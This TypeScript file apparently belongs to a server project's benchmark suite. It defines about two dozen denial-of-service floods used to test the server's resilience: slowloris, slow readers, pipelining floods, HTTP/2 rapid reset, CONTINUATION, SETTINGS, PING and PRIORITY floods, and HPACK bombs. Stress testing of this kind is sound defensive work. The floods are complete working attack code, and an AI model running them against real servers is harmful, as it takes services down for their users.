// The attacks of `bench floods`. Each is what one process does until it is told to end; the numbers are what a host of two cores can bear beside the server.

import type { Socket } from "node:net";
import {
  code,
  flags,
  frame,
  get as fieldsOf,
  pack,
} from "../../test/agent/accelerator/http2-frames.ts";
import { host } from "../serving/cases.ts";
import type { Attacker } from "./attack.ts";

export type Attack = {
  readonly name: string;
  readonly title: string;
  /** What is counted as sent. */
  readonly unit: string;
  /** How long it takes until all of its connections are there. */
  readonly buildUpMs?: number;
  readonly run: (attacker: Attacker) => void;
};

const { endHeaders, endStream, ack } = flags;
const whole = endHeaders | endStream;
const get = (path: string): string => `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const hit = Buffer.from(get("/hit/0"));
const windowUpdate = (stream: number, by: number): Buffer =>
  frame("windowUpdate", stream, code(by));
const setting = (id: number, value: number): Buffer =>
  Buffer.concat([Buffer.of(id >> 8, id & 255), code(value)]);
const preface = Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");

/** Begins as a client of HTTP/2 does. */
function greet(socket: Socket, settings: Buffer = Buffer.alloc(0)): void {
  const grants = windowUpdate(0, 2 ** 30);
  const accepts = frame("settings", 0, Buffer.alloc(0), ack);
  socket.write(Buffer.concat([preface, frame("settings", 0, settings), grants, accepts]));
}

/** Gives the numbers of streams, one after the other. */
function streams(): () => number {
  let next = -1;
  return () => (next += 2);
}

const repeat = (count: number, make: (no: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, no) => make(no)));

/** A flood of HTTP/2: `connections`, each of which pours pieces of `worth` frames. */
function pouring(connections: number, worth: number, maker: () => () => Buffer): Attack["run"] {
  return (attacker) =>
    attacker.keep(connections, "h2", (socket) => {
      socket.resume();
      greet(socket);
      attacker.pour(socket, worth, maker());
    });
}

/** The same bytes again and again. */
const always = (bytes: Buffer) => () => () => bytes;

const request = pack(fieldsOf("/hit/0"));

export const attacks: readonly Attack[] = [
  {
    name: "slowloris",
    title: "slowloris: 4,000 heads, a byte each second",
    unit: "bytes",
    buildUpMs: 1_000,
    run: (attacker) => {
      attacker.keep(4_000, "http", (socket) => {
        let no = 0;
        socket.resume().write(`GET / HTTP/1.1\r\nHost: ${host}\r\nX-`);
        const timer = setInterval(() => {
          attacker.counts.sent++;
          socket.write(String(no++ % 10));
        }, 1_000);
        socket.once("close", () => clearInterval(timer));
      });
    },
  },
  {
    name: "idle",
    title: "idle: 10,000 connections without a byte",
    unit: "bytes",
    buildUpMs: 2_000,
    run: (attacker) => attacker.keep(10_000, "http", (socket) => void socket.resume()),
  },
  {
    name: "idle-tls",
    title: "idle: 1,000 connections without a byte behind a handshake",
    unit: "bytes",
    buildUpMs: 2_500,
    run: (attacker) => attacker.keep(1_000, "https", (socket) => void socket.resume()),
  },
  {
    name: "handshakes",
    title: "64 connections, each a handshake and gone",
    unit: "handshakes",
    run: (attacker) => {
      attacker.keep(
        64,
        "https",
        (socket) => {
          attacker.counts.sent++;
          socket.destroy();
        },
        1,
      );
    },
  },
  {
    name: "slow-readers",
    title: "slow readers: 500 ask for 10 MiB and read nothing",
    unit: "requests",
    run: (attacker) => {
      attacker.keep(500, "http", (socket) => {
        attacker.counts.sent++;
        socket.pause().write(get("/files/10m.html"));
      });
    },
  },
  {
    name: "slow-streams",
    title: "slow readers: 100 HTTP/2 connections, 100 streams of 10 MiB each",
    unit: "requests",
    run: (attacker) => {
      const large = pack(fieldsOf("/files/10m.html"));
      attacker.keep(100, "h2", (socket) => {
        const next = streams();
        attacker.counts.sent += 100;
        greet(socket, setting(4, 2 ** 30));
        socket.pause().write(repeat(100, () => frame("headers", next(), large, whole)));
      });
    },
  },
  {
    name: "pipelined",
    title: "1,000 pipelined requests on each of 64 connections, answers read",
    unit: "requests",
    run: (attacker) => {
      const thousand = repeat(1_000, () => hit);
      attacker.keep(64, "http", (socket) => {
        socket.resume();
        attacker.pour(socket, 1_000, () => thousand);
      });
    },
  },
  {
    name: "pipelined-odd",
    title: "1,000 pipelined requests on each of 64 connections, none of them plain",
    unit: "requests",
    run: (attacker) => {
      const odd = get("/hit/0").replace("\r\n\r\n", "\r\nKeep-Alive: 5\r\n\r\n");
      const thousand = repeat(1_000, () => Buffer.from(odd));
      attacker.keep(64, "http", (socket) => {
        socket.resume();
        attacker.pour(socket, 1_000, () => thousand);
      });
    },
  },
  {
    name: "pipelined-unread",
    title: "1,000 pipelined requests on each of 500 connections, nothing read",
    unit: "requests",
    run: (attacker) => {
      const thousand = repeat(1_000, () => hit);
      attacker.keep(500, "http", (socket) => {
        attacker.counts.sent += 1_000;
        socket.pause().write(thousand);
      });
    },
  },
  {
    name: "pipelined-misses",
    title: "1,000 pipelined requests on each of 64 connections, none stored",
    unit: "requests",
    run: (attacker) => {
      const thousand = repeat(1_000, () => Buffer.from(get("/private/0")));
      attacker.keep(64, "http", (socket) => {
        socket.resume();
        attacker.pour(socket, 1_000, () => thousand);
      });
    },
  },
  {
    name: "rapid-reset",
    title: "HTTP/2 rapid reset, 32 connections",
    unit: "streams",
    run: pouring(32, 50, () => {
      const next = streams();
      return () =>
        repeat(50, () => {
          const stream = next();
          return Buffer.concat([
            frame("headers", stream, request, whole),
            frame("reset", stream, code(8)),
          ]);
        });
    }),
  },
  {
    name: "made-reset",
    title: "HTTP/2 resets that the server is made to send, 32 connections",
    unit: "streams",
    run: pouring(32, 50, () => {
      const next = streams();
      return () =>
        repeat(50, () => {
          const stream = next();
          return Buffer.concat([frame("headers", stream, request, whole), windowUpdate(stream, 0)]);
        });
    }),
  },
  {
    name: "continuation",
    title: "HTTP/2 CONTINUATION without end, 32 connections",
    unit: "frames",
    run: (attacker) => {
      const more = frame("continuation", 1, pack([["x-more", "y".repeat(1_000)]]));
      attacker.keep(32, "h2", (socket) => {
        socket.resume();
        greet(socket);
        socket.write(frame("headers", 1, request, endStream));
        attacker.pour(socket, 16, () => repeat(16, () => more));
      });
    },
  },
  {
    name: "empty-continuation",
    title: "HTTP/2 CONTINUATION without a byte, 32 connections",
    unit: "frames",
    run: (attacker) => {
      const more = repeat(1_000, () => frame("continuation", 1));
      attacker.keep(32, "h2", (socket) => {
        socket.resume();
        greet(socket);
        socket.write(frame("headers", 1, request, endStream));
        attacker.pour(socket, 1_000, () => more);
      });
    },
  },
  {
    name: "settings",
    title: "HTTP/2 SETTINGS, 32 connections",
    unit: "frames",
    run: pouring(
      32,
      500,
      always(repeat(500, (no) => frame("settings", 0, setting(4, 65_535 + (no % 2))))),
    ),
  },
  {
    name: "settings-acks",
    title: "HTTP/2 SETTINGS that acknowledge nothing, 32 connections",
    unit: "frames",
    run: pouring(32, 500, always(repeat(500, () => frame("settings", 0, Buffer.alloc(0), ack)))),
  },
  {
    name: "ping",
    title: "HTTP/2 PING, 32 connections",
    unit: "frames",
    run: pouring(32, 500, always(repeat(500, () => frame("ping", 0, Buffer.alloc(8))))),
  },
  {
    name: "ping-acks",
    title: "HTTP/2 PING answers that nobody asked for, 32 connections",
    unit: "frames",
    run: pouring(32, 500, always(repeat(500, () => frame("ping", 0, Buffer.alloc(8), ack)))),
  },
  {
    name: "ping-unread",
    title: "HTTP/2 PING, answers not read, 100 connections",
    unit: "frames",
    run: (attacker) => {
      const pings = repeat(90, () => frame("ping", 0, Buffer.alloc(8)));
      attacker.keep(100, "h2", (socket) => {
        greet(socket);
        socket.pause();
        attacker.pour(socket, 90, () => pings);
      });
    },
  },
  {
    name: "window-updates",
    title: "HTTP/2 WINDOW_UPDATE, 32 connections",
    unit: "frames",
    run: (attacker) => {
      const grants = repeat(1_000, () => windowUpdate(0, 1));
      attacker.keep(32, "h2", (socket) => {
        socket.resume().write(Buffer.concat([preface, frame("settings", 0)]));
        attacker.pour(socket, 1_000, () => grants);
      });
    },
  },
  {
    name: "priority",
    title: "HTTP/2 PRIORITY, 32 connections",
    unit: "frames",
    run: pouring(
      32,
      1_000,
      always(repeat(1_000, (no) => frame("priority", 2 * no + 1, Buffer.of(0, 0, 0, 0, 1)))),
    ),
  },
  {
    name: "unknown",
    title: "HTTP/2 frames of no known type, 32 connections",
    unit: "frames",
    run: pouring(
      32,
      1_000,
      always(
        repeat(1_000, () => {
          const odd = frame("priority", 0, Buffer.alloc(5));
          odd[3] = 0xee;
          return odd;
        }),
      ),
    ),
  },
  {
    name: "empty-data",
    title: "HTTP/2 DATA without a byte, 32 connections",
    unit: "frames",
    run: (attacker) => {
      const upload = pack([...fieldsOf("/post").slice(1), [":method", "POST"]]);
      const nothing = repeat(1_000, () => frame("data", 1));
      attacker.keep(32, "h2", (socket) => {
        socket.resume();
        greet(socket);
        socket.write(frame("headers", 1, upload, endHeaders));
        attacker.pour(socket, 1_000, () => nothing);
      });
    },
  },
  {
    name: "hpack-bomb",
    title: "HPACK: a field of 4,000 bytes named 1,000 times, 32 connections",
    unit: "streams",
    run: pouring(32, 1, () => {
      const next = streams();
      const field = pack([["x", "v".repeat(3_900)]]).subarray(1);
      // Indexed: the newest entry of the dynamic table is number 62.
      const first = Buffer.concat([request, Buffer.of(0x40), field, Buffer.alloc(1_000, 0xbe)]);
      const again = Buffer.concat([request, Buffer.alloc(1_000, 0xbe)]);
      let isFirst = true;
      return () => {
        const block = isFirst ? first : again;
        isFirst = false;
        return frame("headers", next(), block, whole);
      };
    }),
  },
  {
    name: "hpack-churn",
    title: "HPACK: the table emptied and filled 100 times a head, 32 connections",
    unit: "streams",
    run: pouring(32, 1, () => {
      const next = streams();
      const fill = repeat(100, (no) =>
        Buffer.concat([Buffer.of(0x40), pack([[`x-${no}`, "v".repeat(20)]]).subarray(1)]),
      );
      const empty = Buffer.of(0x20, 0x3f, 0xe1, 0x1f); // To nothing, then to 4,096 again.
      return () => frame("headers", next(), Buffer.concat([empty, request, fill]), whole);
    }),
  },
  {
    name: "requests",
    title: "HTTP/2: plain requests, 32 connections with 100 streams each, answers read",
    unit: "streams",
    run: (attacker) => {
      attacker.keep(32, "h2", (socket) => {
        const next = streams();
        greet(socket, setting(4, 2 ** 30));
        let open = 0;
        const ask = (): void => {
          const count = 100 - open;
          open += count;
          attacker.counts.sent += count;
          if (socket.writable)
            socket.write(repeat(count, () => frame("headers", next(), request, whole)));
        };
        // By the ends of streams, which are told without unpacking a head: each answer has one frame of data that ends it.
        let left = 0;
        socket.on("data", (chunk: Buffer) => {
          left += chunk.length;
          const answered = Math.floor(left / 4_200);
          left -= answered * 4_200;
          open = Math.max(0, open - answered);
          if (open < 50) ask();
        });
        ask();
      });
    },
  },
];
